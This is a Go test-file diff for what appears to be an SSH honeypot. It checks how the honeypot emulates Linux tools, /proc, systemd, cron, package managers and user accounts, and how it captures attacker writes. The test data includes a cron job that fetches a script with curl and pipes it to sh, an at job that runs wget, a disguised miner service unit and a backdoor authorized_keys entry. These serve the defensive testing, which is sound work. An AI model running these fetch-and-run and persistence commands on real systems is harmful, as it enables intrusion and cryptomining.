+		{"head -c 16 /dev/urandom | wc -c", "16\n"},
+		{"cat /dev/urandom | head -c 100 | wc -c", "100\n"},
+		{"tail -c 5 /tmp/d/a.txt", "ta\nx\n"},
+		{"ls -l /dev/null | cut -c1-10,24-", "crw-rw-rw-1, 3 " + lsTime(startTime) + " /dev/null\n"},
+		{"file /dev/urandom", "/dev/urandom: character special (1/9)\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+}
+
+func TestVirtualFiles(t *testing.T) {
+	term, run := newTestTerminal(NewSessionFS(), nil)
+	defer trackPeer("203.0.113.7:40022", 22)()
+	defer Procs.Login(term, "root", term.Env)()
+
+	cases := []struct{ cmd, want string }{
+		{"head -c 3000 /dev/zero | wc -c", "3000\n"},
+		{"head -c 2048 /dev/random | od -An -c | grep -c gibberish", "0\n"},
+		{"echo hi > /dev/null; echo $?", "0\n"},
+		{"echo hi | tee /dev/null", "hi\n"},
+		{"echo 1 > /proc/uptime; echo $?", "-bash: /proc/uptime: 权限不够\n1\n"},
+		{"echo 0 > /proc/sys/kernel/randomize_va_space; echo $?; cat /proc/sys/kernel/randomize_va_space", "0\n2\n"},
+		{"rm /proc/loadavg", "rm: 无法删除 '/proc/loadavg': 不允许的操作\n"},
+		{"cat /proc/self/comm; ls /proc/self", "bash\ncmdline\ncomm\nenviron\nstatus\n"},
+		{"cat /proc/sys/kernel/hostname", HostPersona.Hostname + "\n"},
+		{"grep -c processor /proc/cpuinfo", "2\n"},
+		{"grep MemTotal /proc/meminfo", "MemTotal:       16303284 kB\n"},
+		{"free | awk '{print $2}'", "used\n16303284\n2097148\n"},
+		{"grep ' / ' /proc/mounts", "/dev/sda2 / ext4 rw,relatime 0 0\n"},
+		{"grep -c ':0016 00000000:0000 0A' /proc/net/tcp; grep -c '0A01A8C0:0016 077100CB:9C56 01' /proc/net/tcp", "1\n1\n"},
+		{"ls /sys/class/net; cat /sys/class/net/eth0/address", "eth0\nlo\n" + HostPersona.MACAddr + "\n"},
+		{"ls /dev", "null\nrandom\nurandom\nzero\n"},
+		{"uptime -s", startTime.Format("2006-01-02 15:04:05") + "\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+
+	// uptime、top 与 /proc/uptime、/proc/loadavg 读到相同的负载
+	load := strings.Fields(run("cat /proc/loadavg"))
+	want := "load average: " + strings.Join(load[:3], ", ")
+	for _, cmd := range []string{"uptime", "top -b -n 1 | head -1"} {
+		if got := run(cmd); !strings.Contains(got, want) || !strings.Contains(got, "1 user") {
+			t.Errorf("%s: got %q, want %q", cmd, got, want)
+		}
+	}
+	up, _ := strconv.ParseFloat(strings.Fields(run("cat /proc/uptime"))[0], 64)
+	if d := time.Since(startTime).Seconds() - up; d < -0.01 || d > 1 {
+		t.Errorf("/proc/uptime = %v, want %v", up, time.Since(startTime).Seconds())
+	}
+	if got := run("top -b -n 1 | grep 'MiB Mem'"); !strings.HasPrefix(got, "MiB Mem :  15921.2 total,") {
+		t.Errorf("top memory line: %q", got)
+	}
+}
+
+func TestNetworkTools(t *testing.T) {
+	term, run := newTestTerminal(NewSessionFS(), nil)
+	defer trackPeer("203.0.113.7:40022", 22)()
+	defer Procs.Login(term, "root", term.Env)()
+
+	ip, mac := HostPersona.IPAddr, HostPersona.MACAddr
+	cases := []struct{ cmd, want string }{
+		{"ip -br a", "lo               UNKNOWN        127.0.0.1/8 ::1/128 \neth0             UP             " + ip + "/24 fe80::211:22ff:fe33:4455/64 \n"},
+		{"ip -4 addr show dev eth0 | grep inet", "    inet " + ip + "/24 metric 100 brd 192.168.1.255 scope global dynamic eth0\n"},
+		{"ip link show eth0 | grep link/", "    link/ether " + mac + " brd ff:ff:ff:ff:ff:ff\n"},
+		{"ip r | head -1", "default via 192.168.1.1 dev eth0 proto dhcp src " + ip + " metric 100 \n"},
+		{"ip route get 8.8.8.8 | head -1", "8.8.8.8 via 192.168.1.1 dev eth0 src " + ip + " uid 0 \n"},
+		{"ip n | head -1", "192.168.1.1 dev eth0 lladdr a0:36:9f:1a:2b:3c REACHABLE\n"},
+		{"ip a s eth9; echo $?", "Device \"eth9\" does not exist.\n1\n"},
+		{"ip foo; echo $?", "Object \"foo\" is unknown, try \"ip help\".\n255\n"},
+		{"ip addr add 10.0.0.1/8 dev eth0; echo $?", "0\n"},
+		{"ifconfig eth0 | head -4", "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n" +
+			"        inet " + ip + "  netmask 255.255.255.0  broadcast 192.168.1.255\n" +
+			"        inet6 fe80::211:22ff:fe33:4455  prefixlen 64  scopeid 0x20<link>\n" +
+			"        ether " + mac + "  txqueuelen 1000  (Ethernet)\n"},
+		{"ifconfig wlan0", "wlan0: error fetching interface information: Device not found\n"},
+		{"route -n | sed -n 3p", "0.0.0.0         192.168.1.1     0.0.0.0         UG    100    0        0 eth0\n"},
+		{"arp -a | head -1", "_gateway (192.168.1.1) at a0:36:9f:1a:2b:3c [ether] on eth0\n"},
+		{"netstat -tlnp | grep ':22 '", "tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      832/sshd\n" +
+			"tcp6       0      0 :::22                   :::*                    LISTEN      832/sshd\n"},
+		{"netstat -tn | tail -1", "tcp        0      0 " + ip + ":22         203.0.113.7:40022       ESTABLISHED\n"},
+		{"ss -tn | tail -1", "ESTAB     0      0              " + ip + ":22                203.0.113.7:40022\n"},
+		{"ss -ulnp | grep :68", "UNCONN    0      0         " + ip + "%eth0:68                    0.0.0.0:*        users:((\"systemd-network\",pid=575,fd=19))\n"},
+		{"netstat -z", "netstat: invalid option -- 'z'\nusage: netstat [-vWeenNcCF] [<Af>] -r         netstat {-V|--version|-h|--help}\n"},
+		{"hostname -I", ip + " \n"},
+		{"grep " + HostPersona.Hostname + " /etc/hosts", "127.0.1.1 " + HostPersona.Hostname + "\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+
+	// 各工具看到的是同一张表：监听端口数与 /proc/net 的条目数一致
+	listen := strings.Count(run("cat /proc/net/tcp /proc/net/tcp6"), " 0A ")
+	if got := strings.Count(run("ss -tln"), "LISTEN"); got != listen {
+		t.Errorf("ss -tln: %d listeners, /proc/net has %d", got, listen)
+	}
+	if got := strings.Count(run("netstat -tln"), "LISTEN"); got != listen {
+		t.Errorf("netstat -tln: %d listeners, /proc/net has %d", got, listen)
+	}
+	if got := run("cat /proc/net/arp | wc -l"); got != strconv.Itoa(len(netNeighbors())+1)+"\n" {
+		t.Errorf("/proc/net/arp lines: %q", got)
+	}
+
+	// 普通用户不能修改网络配置，也看不到其他用户进程的端口归属
+	term.Env["USER"] = "user"
+	cases = []struct{ cmd, want string }{
+		{"ip link set eth0 down; echo $?", "RTNETLINK answers: Operation not permitted\n2\n"},
+		{"ifconfig eth0 down", "SIOCSIFFLAGS: Operation not permitted\n"},
+		{"route add default gw 10.0.0.1", "SIOCADDRT: Operation not permitted\n"},
+		{"hostname pwned", "hostname: you must be root to change the host name\n"},
+		{"ss -tlnp | grep -c users", "0\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+}
+
+func TestPackageManagers(t *testing.T) {
+	term, run := newTestTerminal(NewSessionFS(), map[string]string{"USER": "root", "HOME": "/root", "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"})
+	defer Procs.Login(term, "root", term.Env)()
+
+	cases := []struct{ cmd, want string }{
+		{"masscan -p22 10.0.0.0/8", "找不到命令 “masscan”，但可以通过以下软件包安装它：\n\napt install masscan\n\n"},
+		{"apt-get install -y masscan | grep -v Fetched", "Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\n" +
+			"The following NEW packages will be installed:\n  masscan\n" +
+			"0 upgraded, 1 newly installed, 0 to remove and 0 not upgraded.\n" +
+			"Need to get 742 kB of archives.\nAfter this operation, 2,967 kB of additional disk space will be used.\n" +
+			"Get:1 http://archive.ubuntu.com/ubuntu jammy/universe amd64 masscan amd64 2:1.3.2+ds1-1 [742 kB]\n" +
+			"Selecting previously unselected package masscan.\n" +
+			"(Reading database ... 71406 files and directories currently installed.)\n" +
+			"Preparing to unpack .../masscan_2%3a1.3.2+ds1-1_amd64.deb ...\n" +
+			"Unpacking masscan (2:1.3.2+ds1-1) ...\nSetting up masscan (2:1.3.2+ds1-1) ...\n" +
+			"Processing triggers for man-db (2.10.2-1) ...\n"},
+		{"ls /usr/bin/masscan; grep -A1 'Package: masscan' /var/lib/dpkg/status", "/usr/bin/masscan\nPackage: masscan\nStatus: install ok installed\n"},
+		{"masscan -p22 10.0.0.0/8; echo $?", "masscan: /lib/x86_64-linux-gnu/libc.so.6: version `GLIBC_2.38' not found (required by masscan)\n1\n"},
+		{"dpkg -l masscan | tail -1", "ii  masscan 2:1.3.2+ds1-1 amd64        TCP port scanner\n"},
+		{"apt-get install masscan | tail -2", "masscan is already the newest version (2:1.3.2+ds1-1).\n0 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n"},
+		{"apt-get install -y xmrig; echo $?", "Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\nE: Unable to locate package xmrig\n100\n"},
+		{"apt-get install gcc | tail -2", "After this operation, 21.9 MB of additional disk space will be used.\nDo you want to continue? [Y/n] Abort.\n"},
+		{"echo y | apt-get install gcc | grep -c '^Setting up'", "10\n"},
+		{"apt-get remove -y masscan | grep Removing; ls /usr/bin/masscan", "Removing masscan (2:1.3.2+ds1-1) ...\nls: 无法访问 '/usr/bin/masscan': 没有那个文件或目录\n"},
+		{"apt-get remove -y bash", "Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\n" +
+			"E: Removing essential system-critical packages is not permitted. This might break the system.\n"},
+		{"dpkg -s nmap", "dpkg-query: package 'nmap' is not installed and no information is available\nUse dpkg --info (= dpkg-deb --info) to examine archive files.\n"},
+		{"pip install requests", "找不到命令 “pip”，但可以通过以下软件包安装它：\n\napt install python3-pip\n\n"},
+		{"apt-get install -y -qq python3-pip; pip install requests | tail -3 | cut -c1-39", "Installing collected packages: charset-\nSuccessfully installed certifi-2023.11.\nWARNING: Running pip as the 'root' user\n"},
+		{"pip freeze", "certifi==2023.11.17\ncharset-normalizer==3.3.2\nidna==3.6\nrequests==2.31.0\nurllib3==2.1.0\n"},
+		{"pip install requests", "Requirement already satisfied: requests in /usr/local/lib/python3.10/dist-packages (2.31.0)\n"},
+		{"yum install -y gcc; echo $?", "找不到命令 “yum”，您的意思是：\n  “gum” 命令来自 snap gum (0.13.0)\n  “sum” 命令来自 deb coreutils (8.32-4.1ubuntu1)\n  “num” 命令来自 deb quickcal (2.4-1)\n尝试 apt install <deb name>\n127\n"},
+		{"rpm -qa; echo $?", "找不到命令 “rpm”，但可以通过以下软件包安装它：\n\napt install rpm\n\n127\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+
+	// 普通用户不能安装软件，pip 默认装到家目录
+	term.Env["USER"], term.Env["HOME"] = "user", "/home/user"
+	cases = []struct{ cmd, want string }{
+		{"apt-get install -y nmap", "E: Could not open lock file /var/lib/dpkg/lock-frontend - open (13: Permission denied)\n" +
+			"E: Unable to acquire the dpkg frontend lock (/var/lib/dpkg/lock-frontend), are you root?\n"},
+		{"pip install -q pysocks; ls /home/user/.local/lib/python3.10/site-packages", "pysocks\npysocks-1.7.1.dist-info\n"},
+	}
+	for _, c := range cases {
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+}
+
+func TestSystemd(t *testing.T) {
+	CaptureDir = t.TempDir()
+	term, run := newTestTerminal(NewSessionFS(), map[string]string{"USER": "root", "HOME": "/root", "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"})
+	defer Procs.Login(term, "root", term.Env)()
+
+	unit := "/etc/systemd/system/dbus-broker.service"
+	for _, line := range []string{"[Unit]", "Description=D-Bus Broker", "[Service]", "ExecStart=/usr/lib/.cache/dbus-broker -o pool.example.net:3333",
+		"Restart=always", "[Install]", "WantedBy=multi-user.target"} {
+		run("echo '" + line + "' >> " + unit)
+	}
+	run("mkdir /usr/lib/.cache; echo stratum+tcp > /usr/lib/.cache/dbus-broker; chmod 755 /usr/lib/.cache/dbus-broker")
+
+	cases := []struct{ cmd, want string }{
+		{"systemctl status sshd | grep -E '^●|Loaded|Main PID'", "● ssh.service - OpenBSD Secure Shell server\n" +
+			"     Loaded: loaded (/lib/systemd/system/ssh.service; enabled; vendor preset: enabled)\n   Main PID: 832 (sshd)\n"},
+		{"systemctl status apache2 | grep -A3 CGroup", "     CGroup: /system.slice/apache2.service\n" +
+			"             ├─950 /usr/sbin/apache2 -k start\n             ├─951 /usr/sbin/apache2 -k start\n             └─952 /usr/sbin/apache2 -k start\n"},
+		{"systemctl is-enabled ssh systemd-journald dbus-broker", "enabled\nstatic\ndisabled\n"},
+		{"systemctl enable --now dbus-broker", "Created symlink /etc/systemd/system/multi-user.target.wants/dbus-broker.service → /etc/systemd/system/dbus-broker.service.\n"},
+		{"systemctl status dbus-broker | grep -E '^●|Loaded|running'", "● dbus-broker.service - D-Bus Broker\n" +
+			"     Loaded: loaded (/etc/systemd/system/dbus-broker.service; enabled; vendor preset: enabled)\n" +
+			"     Active: active (running) since "},
+		{"systemctl is-active dbus-broker; service dbus-broker stop; systemctl is-active dbus-broker; echo $?", "active\ninactive\n3\n"},
+		{"systemctl disable dbus-broker; systemctl is-enabled dbus-broker", "Removed /etc/systemd/system/multi-user.target.wants/dbus-broker.service.\ndisabled\n"},
+		{"systemctl list-unit-files | grep -E '^(dbus|ufw)'", "dbus-broker.service       disabled enabled\ndbus.service              static   -\nufw.service               enabled  enabled\n"},
+		{"systemctl enable dbus", unitNoInstall},
+		{"systemctl status nope; echo $?", "Unit nope.service could not be found.\n4\n"},
+		{"service nope start; systemctl frob", "nope: unrecognized service\nUnknown command verb frob.\n"},
+	}
+	for _, c := range cases {
+		got := run(c.cmd)
+		// 启动时间不固定，只比较之前的部分
+		if strings.HasSuffix(c.want, "since ") {
+			got, _, _ = strings.Cut(got, "since ")
+			got += "since "
+		}
+		if got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+
+	// 普通用户没有权限管理服务
+	term.Env["USER"] = "user"
+	if got := run("systemctl start dbus-broker; echo $?"); got != "Failed to start dbus-broker.service: Interactive authentication required.\n"+
+		"See system logs and 'systemctl status dbus-broker.service' for details.\n1\n" {
+		t.Errorf("non-root start: got %q", got)
+	}
+}
+
+func TestCron(t *testing.T) {
+	CaptureDir = t.TempDir()
+	term, run := newTestTerminal(NewSessionFS(), map[string]string{"USER": "root", "HOME": "/root", "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"})
+	defer Procs.Login(term, "root", term.Env)()
+
+	job := "*/5 * * * * curl -fsSL http://203.0.113.50/a.sh | sh"
+	cases := []struct{ cmd, want string }{
+		{"crontab -l; echo $?", "no crontab for root\n1\n"},
+		{"echo '" + job + "' > /tmp/c; crontab /tmp/c; crontab -l", job + "\n"},
+		{"ls -l /var/spool/cron/crontabs | cut -c1-25; head -1 /var/spool/cron/crontabs/root",
+			"total 4\n-rw------- 1 root crontab\n# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"},
+		{"echo '61 * * * * /tmp/x' | crontab -; echo $?", "\"-\":1: bad minute\nerrors in crontab file, can't install.\n1\n"},
+		{"echo '* * * * /tmp/x' | crontab -", "\"-\":1: bad day-of-week\nerrors in crontab file, can't install.\n"},
+		{"echo '@boot /tmp/x' | crontab -", "\"-\":1: bad time specifier\nerrors in crontab file, can't install.\n"},
+		{"echo '0 3 * jan-mar mon-fri,sun /x' | crontab -; crontab -l", "0 3 * jan-mar mon-fri,sun /x\n"},
+		{"crontab -u nosuch -l", "crontab: user `nosuch' unknown\n"},
+		{"crontab -r; crontab -l", "no crontab for root\n"},
+		{"echo 'wget -q http://203.0.113.50/m' | at now + 1 minute; atq | wc -l", "1\n"},
+		{"at -c 1 | tail -2 | head -1", "wget -q http://203.0.113.50/m\n"},
+		{"atrm 1; atq; atrm 1", "Cannot find jobid 1\n"},
+		{"at teatime tomorrow + 1 fortnight", "syntax error. Last token seen: fortnight\nGarbled time\n"},
+	}
+	for _, c := range cases {
+		got := run(c.cmd)
+		// at 的提示与作业时间输出到 stderr，时间随当前时刻变化
+		if strings.Contains(c.cmd, "| at ") {
+			if !strings.HasPrefix(got, "warning: commands will be executed using /bin/sh\njob 1 at ") {
+				t.Errorf("%s: got %q", c.cmd, got)
+			}
+			got = got[strings.LastIndex(got[:len(got)-1], "\n")+1:]
+		}
+		if got != c.want {
+			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
+		}
+	}
+
+	// 任何写入 cron 位置或 authorized_keys 的操作都会捕获文件内容
+	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey backdoor\n"
+	run("echo '" + strings.TrimSuffix(key, "\n") + "' >> /root/.ssh/authorized_keys")
+	sum := sha256.Sum256([]byte(key))
+	if _, err := os.Stat(filepath.Join(CaptureDir, hex.EncodeToString(sum[:]))); err != nil {
+		t.Errorf("authorized_keys not captured: %v", err)
+	}
+}
+
+func TestAccounts(t *testing.T) {
+	CaptureDir = t.TempDir()
+	if got, _ := sha512Crypt("Hello world!", "$6$saltstring"); got != "$6$saltstring$svn8UoSVapNtMuq1ukKS4tPQd8iKwSMHWjl/O817G3uBnIFNjnQJuesI68u4OTLiBFdcbYEdFCoEOfaS35inz1" {
+		t.Errorf("sha512Crypt: got %q", got)
+	}
+
+	fs := NewSessionFS()
+	term, run := newTestTerminal(fs, map[string]string{"USER": "root", "HOME": "/root", "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"})
+	defer Procs.Login(term, "root", term.Env)()
+
+	cases := []struct{ user, cmd, want string }{
+		{"root", "id", "uid=0(root) gid=0(root) groups=0(root)\n"},
+		{"root", "id user; id -un user; id -n", "uid=1000(user) gid=1000(user) groups=1000(user),4(adm),27(sudo)\nuser\nid: 只能在使用 -u、-g 或 -G 时才能显示名称\n"},
+		{"root", "useradd -m -G sudo -s /bin/bash bob; grep bob /etc/passwd; id bob; ls -ld /home/bob | cut -c1-25",
+			"bob:x:1001:1001::/home/bob:/bin/bash\nuid=1001(bob) gid=1001(bob) groups=1001(bob),27(sudo)\ndrwxr-x--- 2 bob bob 4096\n"},
+		{"root", "useradd bob; echo $?", "useradd: user 'bob' already exists\n9\n"},
+		{"root", "passwd -S bob | cut -d' ' -f1-2", "bob L\n"},
+		{"root", "echo 'bob:hunter2' | chpasswd; passwd -S bob | cut -d' ' -f1-2", "bob P\n"},
+		{"bob", "echo hunter2 > /tmp/pw; cat /tmp/pw | sudo -S id -un", "[sudo] password for bob: \nroot\n"},
+		{"bob", "sudo -n whoami", "root\n"},
+		{"bob", "sudo -l | tail -1", "    (ALL : ALL) ALL\n"},
+		{"bob", "sudo -k; sudo whoami", "sudo: a terminal is required to read the password; either use the -S option to read from standard input or configure an askpass helper\nsudo: a password is required\n"},
+		{"bob", "echo wrong > /tmp/pw; cat /tmp/pw | sudo -S id", "[sudo] password for bob: \nSorry, try again.\n[sudo] password for bob: sudo: 1 incorrect password attempt\n"},
+		{"bob", "su -c id", "su: must be run from a terminal\n"},
+		{"root", "usermod -G adm bob; id -Gn bob", "bob adm\n"},
+		{"bob", "sudo -k; echo hunter2 | sudo -S id", "[sudo] password for bob: \nbob is not in the sudoers file.  This incident will be reported.\n"},
+		{"root", "usermod -L bob; passwd -S bob | cut -d' ' -f1-2; usermod -U bob; passwd -S bob | cut -d' ' -f1-2", "bob L\nbob P\n"},
+		{"root", "su -c 'id -un; echo $HOME' bob; id -un", "bob\n/home/bob\nroot\n"},
+		{"root", "su - -c pwd bob", "/home/bob\n"},
+		{"root", "su - bob", ""},
+		{"bob", "id -un; pwd; exit", "bob\n/home/bob\n"},
+		{"root", "id -un; pwd", "root\n/root\n"},
+		{"root", "su nobody", "This account is currently not available.\n"},
+		{"root", "echo 'bob ALL=(ALL) NOPASSWD: /usr/bin/id' > /etc/sudoers.d/bob; sudo -u bob sudo -n id -un", "root\n"},
+		{"root", "sudo -u bob sudo -n whoami", "Sorry, user bob is not allowed to execute '/usr/bin/whoami' as root on ubuntu-server.\n"},
+	}
+	for _, c := range cases {
+		term.Env["USER"] = c.user
+		if got := run(c.cmd); got != c.want {
+			t.Errorf("%s: %s: got %q, want %q", c.user, c.cmd, got, c.want)
+		}
+	}
+
+	// 开启 Accounts 后，SSH 登录只接受会话中设置的新密码
+	a := NewAuthPolicy()
+	a.Accounts = fs
+	if !a.Check("ssh", "198.51.100.7", "user", "123456") || a.Check("ssh", "198.51.100.7", "bob", "123456") ||
+		!a.Check("ssh", "198.51.100.7", "bob", "hunter2") {
+		t.Error("Auth.Accounts not honoured")
+	}
+}